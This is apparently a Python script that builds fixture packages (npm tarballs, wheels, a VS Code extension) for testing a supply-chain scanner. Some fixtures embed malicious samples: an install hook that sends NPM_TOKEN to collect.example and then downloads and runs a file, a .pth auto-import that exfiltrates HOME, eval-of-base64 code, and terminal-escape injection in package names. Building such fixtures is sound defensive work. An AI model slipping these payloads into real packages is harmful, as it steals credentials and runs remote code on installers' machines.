"""Writes packages in two versions each, an innocent one and what became of it, for tests/integration/scan_package.sh. Hosts are of .example, and
nothing here is ever installed or run."""
import gzip
import io
import json
import os
import sys
import tarfile
import zipfile

out = sys.argv[1]
os.makedirs(out, exist_ok=True)


def npm(file, files, top="package"):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w") as t:
        for name, data in files.items():
            data = data if isinstance(data, bytes) else data.encode()
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    with open(os.path.join(out, file), "wb") as f:
        f.write(gzip.compress(b.getvalue(), mtime=0))


def zipped(file, files):
    with zipfile.ZipFile(os.path.join(out, file), "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(zipfile.ZipInfo(name), data)


def folder(name, files):
    for path, data in files.items():
        path = os.path.join(out, name, path)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode())


def manifest(version, **more):
    return json.dumps({"name": "pad", "version": version, "license": "MIT", "repository": {"type": "git", "url": "https://git.example/pad"},
                       "author": "A <a@a.example>", "main": "index.js", "dependencies": {"left": "^1.0.0"}, **more}, indent=2)


PLAIN = "module.exports = (s, n) => s.padStart(n);\n"
SETUP = """const https = require("https");
const { execFile } = require("child_process");
const fs = require("fs");
https.get("https://collect.example/" + process.env.NPM_TOKEN, (r) => r.pipe(fs.createWriteStream("/tmp/x")).on("close", () => execFile("/tmp/x")));
"""
BUILD = 'const fs = require("fs");\nfs.mkdirSync("out");\n'
OLD = {"package.json": manifest("1.0.0"), "index.js": PLAIN}
npm("pad-1.0.0.tgz", OLD)
folder("pad-1.0.0", OLD)
# Another number, a comment, another order of keys: nothing that matters.
npm("same.tgz", {"index.js": "// pads\n" + PLAIN, "package.json": manifest("1.0.1", keywords=["pad"])}, top="pad-1.0.1")
# What most attacks were.
INSTALL = {"package.json": manifest("1.0.1", scripts={"postinstall": "node ./setup.js", "test": "true"}), "index.js": PLAIN, "setup.js": SETUP}
npm("install.tgz", INSTALL)
folder("install", INSTALL)
# The command stays; what it runs is another.
npm("setup-1.0.0.tgz", {"package.json": manifest("1.0.0", scripts={"install": "node setup"}), "index.js": PLAIN, "setup.js": BUILD})
npm("setup-1.0.1.tgz", {"package.json": manifest("1.0.1", scripts={"install": "node setup"}), "index.js": PLAIN, "setup.js": BUILD + SETUP})
npm("setup-1.0.2.tgz", {"package.json": manifest("1.0.2", scripts={"install": "node setup"}), "index.js": PLAIN, "setup.js": BUILD + BUILD})
# Native code that is built, as honest packages have it.
npm("native.tgz", {"package.json": manifest("1.1.0", scripts={"install": "node-gyp-build"}), "index.js": PLAIN,
                   "prebuilds/linux-x64/pad.node": b"\x7fELF" + bytes(60), "lib.js": 'module.exports = require("./prebuilds/linux-x64/pad.node");\n'})
npm("network.tgz", {"package.json": manifest("1.1.0"), "index.js": PLAIN + 'fetch("https://api.example/pad");\n'})
npm("reaches.tgz", {"package.json": manifest("1.0.1"), "index.js": PLAIN + 'fetch("https://api.example/pad", { body: JSON.stringify(process.env.HOME) });\n'})
npm("unreadable.tgz", {"package.json": manifest("1.0.1"), "index.js": PLAIN + "".join(f"var _0x{i:04x} = _0x{i + 1:04x};\n" for i in range(40))})
npm("elsewhere.tgz", {"package.json": manifest("1.0.1", dependencies={"left": "git+https://git.example/left.git"}), "index.js": PLAIN})
npm("moved.tgz", {"package.json": manifest("2.0.0", repository="https://other.example/pad", license="UNLICENSED", author="B", dependencies={"right": "1"}),
                  "index.js": PLAIN})
npm("types.tgz", {"package.json": manifest("1.0.1", scripts={"prepare": "husky"}), "index.js": PLAIN,
                  "index.d.ts": 'import { Agent } from "http";\nimport cp = require("child_process");\nexport function fetch(u: Agent): void;\nwriteFile(x: string): void;\n'})
npm("types-run.tgz", {"package.json": manifest("1.0.2"), "index.js": 'require("./index.d.ts");\n', "index.d.ts": 'const c = 1;\nrequire("child_process");\n'})
npm("env.tgz", {"package.json": manifest("1.0.1"), "index.js": 'import process from "node:process";\nconst {env} = process;\nexport const f = "FORCE" in env || env.NO_COLOR;\n'
                                                                'const { CI, TERM: t } = process.env;\nconst all = { ...process.env };\n'})
# What was found in the old version is no news; the same in another file is.
DECODES = 'eval(atob("YWxlcnQoMSk="));\n'
npm("decodes-1.tgz", {"package.json": manifest("1.0.0"), "a.js": DECODES})
npm("decodes-2.tgz", {"package.json": manifest("1.0.1"), "a.js": "// a comment\n" + DECODES}, top="other")
npm("decodes-3.tgz", {"package.json": manifest("1.0.2"), "a.js": DECODES, "b.js": DECODES})
for version in "123":
    folder(f"decodes-{version}", {"package.json": manifest("1.0.0"), "a.js": DECODES, **({"b.js": DECODES} if version == "3" else {})})
# Machine code in which there would be a pickle, were it one; and the same in what nobody knows.
CODE = bytes(200) + b"\x80\x02\x82\x05)R." + bytes(200)
npm("machine.tgz", {"package.json": manifest("1.0.0"), "rg": b"\x7fELF" + CODE, "rg.exe": b"MZ" + CODE, "rg-darwin": b"\xcf\xfa\xed\xfe" + CODE})
npm("data.tgz", {"package.json": manifest("1.0.0"), "rg.dat": b"\x01" + CODE})
# With others inside, and one that only looks like a package of its own.
npm("inside.tgz", {"package.json": manifest("1.0.0", dependencies={"left": "^1.0.0", "@s/up": "2", "far": "3"}, optionalDependencies={"maybe": "*"}),
                   "index.js": PLAIN, "node_modules/left/package.json": json.dumps({"name": "left", "version": "1.2.3", "license": "ISC"}),
                   "node_modules/@s/up/package.json": json.dumps({"name": "@s/up", "version": "2.0.0", "license": {"type": "MIT"}, "scripts": {"install": "node x"}}),
                   "test/fixture/package.json": json.dumps({"name": "fixture", "version": "9.9.9", "scripts": {"postinstall": "node evil.js"}})})

METADATA = "Metadata-Version: 2.1\nName: Pad_It\nVersion: {}\nLicense: MIT\nAuthor: A\nRequires-Dist: left (>=1.0)\nRequires-Dist: far ; extra == 'x'\n\nName: not this\n"
WHEEL = {"pad_it/__init__.py": "def pad(s, n):\n    return s.rjust(n)\n"}
zipped("pad_it-1.0-py3-none-any.whl", {**WHEEL, "pad_it-1.0.dist-info/METADATA": METADATA.format("1.0")})
zipped("pad_it-1.1-py3-none-any.whl", {**WHEEL, "pad_it-1.1.dist-info/METADATA": METADATA.format("1.1"), "pad_it.pth": "import pad_it.start\n",
                                      "pad_it/start.py": 'import os, subprocess\nfrom urllib import request\nsubprocess.run(["id"])\nrequest.urlopen("https://collect.example/?" + os.environ["HOME"])\n'
                                      'open("/tmp/x", "w").write("x")\n'})
npm("pad_it-1.0.tar.gz", {"PKG-INFO": METADATA.format("1.0"), "setup.py": "from setuptools import setup\nsetup()\n"}, top="pad_it-1.0")
zipped("pad.vsix", {"extension.vsixmanifest": "<PackageManifest/>", "[Content_Types].xml": "<Types/>",
                    "extension/package.json": json.dumps({"name": "pad", "publisher": "p", "version": "1.0.0", "engines": {"vscode": "*"}, "activationEvents": ["*"]}),
                    "extension/main.js": 'const cp = require("node:child_process");\n'})

# What a package may try with whoever reads about it.
npm("hostile.tgz", {"package.json": json.dumps({"name": "a\u001b[31m<script>\u202e", "version": "1\u0007", "scripts": {"postinstall": "x\u001b]0;\n"},
                                                "dependencies": {f"d{i}": "1" for i in range(20000)}}),
                    "a\x1b[2Jb.js": 'require("https");\n'})
npm("two.tgz", {"package.json": manifest("1.0.0"), "other/package.json": "{", "node_modules/package.json": "[]", "node_modules//package.json": "{}"})
